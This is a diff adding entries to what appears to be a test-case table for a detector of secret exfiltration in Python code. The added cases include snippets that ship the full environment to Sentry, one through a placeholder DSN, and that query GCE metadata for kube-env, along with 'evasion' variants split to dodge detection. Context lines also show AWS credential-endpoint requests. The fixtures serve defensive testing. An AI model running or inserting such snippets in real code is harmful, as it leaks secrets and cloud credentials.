@@ -19,6 +19,10 @@ _SUFFIX: Final = f"{_SEND}import pathlib\nfor p in pathlib.Path.home().rglob('*'
 _LOG: Final = (
     "import logging, os\nimport logging.handlers as h\ng = logging.getLogger('x')\ng.addHandler(h.SysLogHandler("
 )
+_SENTRY: Final = "import os, sentry_sdk as s\n"
+_ATTRIBUTES: Final = (
+    "import requests\nrequests.get('http://metadata.google.internal/computeMetadata/v1/instance/attributes/"
+)
 _IMDS: Final = "import requests\nrequests.get('http://169.254.169.254/"
 SH: Final = "demo/i.sh"
 JS: Final = "demo/work.js"
@@ -274,6 +278,18 @@ CASES: Final = (
     Case("C4", "twin", None, f"{_LOG}address='/dev/log'))\ng.warning(os.environ)\n"),
     Case("C4", "evasion", "high", "import os, sentry_sdk as s\ns.capture_message(str(dict(os.environ)))\n"),
     Case("C4", "twin", None, "import os, sentry_sdk as s\ns.capture_message(os.environ['LANG'] + '/home/u/.netrc')\n"),
+    Case("C4", "hit", "medium", f"{_SENTRY}s.set_context('env', dict(os.environ))\n"),
+    Case("C4", "evasion", "high", f"{_SENTRY}s.init('https://k@c.example.invalid/1')\ns.set_extra('e', os.environ)\n"),
+    Case("C4", "evasion", "high", f"{_SENTRY}s.init(dsn=D)\ns.capture_message(repr(os.environ))\n"),
+    Case(
+        "C4", "twin", None, f"{_SENTRY}s.init('https://k@c.example.invalid/1')\ns.set_extra('e', os.environ['LANG'])\n"
+    ),
+    Case("C4", "hit", "medium", f"{_ATTRIBUTES}kube-env')\n"),
+    Case("C4", "hit", "medium", f"{_ATTRIBUTES}?recursive=true')\n"),
+    Case("C4", "evasion", "medium", f"{_ATTRIBUTES}' + n for n in ('kube-env', 'x'))\n"),
+    Case("C4", "evasion", "medium", f"{_ATTRIBUTES}kube' '-' + 'env')\n"),
+    Case("C4", "twin", None, f"{_ATTRIBUTES}' + name)\n"),
+    Case("C4", "twin", None, f"{_ATTRIBUTES}cluster-name')\n"),
     Case("C4", "hit", "medium", f"{_IMDS}latest/meta-data/iam/security-credentials/x')\n"),
     Case(
         "C4",
